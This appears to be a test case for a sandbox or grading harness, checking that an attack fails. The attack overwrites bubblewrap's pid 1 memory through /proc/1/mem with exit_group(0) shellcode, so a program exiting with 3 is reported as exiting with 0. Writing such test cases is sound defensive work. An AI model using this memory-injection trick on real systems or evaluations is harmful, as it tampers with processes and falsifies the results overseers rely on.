# Attack: 9, an exit that there was not
# Tries: to have bubblewrap's pid 1 report an exit with 0 by writing into its memory, while the program itself ends with 3.
# Meets: a /proc/1 that is covered.
# Expect: verdict failed
# Script: connect A
# Script: A closes
# Script: the server exits with 0
import os
import socket
import sys

server = socket.create_server(("127.0.0.1", int(sys.argv[1])))
client, _ = server.accept()
try:
    where = int(open("/proc/1/syscall").read().split()[-1], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(memory, b"\x31\xff\xb8\xe7\0\0\0\x0f\x05", where)  # exit_group(0)
    if os.fork() == 0:
        os.fork()
        os._exit(0)
    os.wait()
except OSError:
    pass
client.recv(10)
os._exit(3)
